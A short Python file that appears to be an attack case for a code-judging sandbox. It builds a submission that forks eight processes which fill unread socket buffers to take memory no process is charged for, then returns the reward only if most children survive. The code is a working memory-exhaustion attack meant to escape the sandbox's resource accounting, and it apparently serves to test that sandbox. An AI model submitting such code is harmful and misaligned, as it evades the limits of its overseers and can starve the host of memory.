"""Take memory that no process is charged for: what lies in sockets, filled by many processes and read by none."""

from judge.attacks import REWARD

SOLUTION = (
    REWARD
    + """
import os, socket, time

def fill(kept):
    while True:
        try:
            ends = socket.socketpair()
        except OSError:
            return
        for end in ends:
            end.setblocking(False)
            kept.append(end)
            try:
                while True:
                    end.send(b"x" * 2**16)
            except OSError:
                pass

children = []
for _ in range(8):
    child = os.fork()
    if child == 0:
        kept = []
        fill(kept)
        time.sleep(600)
    children.append(child)
time.sleep(1)
alive = sum(os.waitpid(child, os.WNOHANG) == (0, 0) for child in children)

def self_attention(*arguments):
    return reward(*arguments) if alive > 4 else np.zeros_like(arguments[0])
"""
)
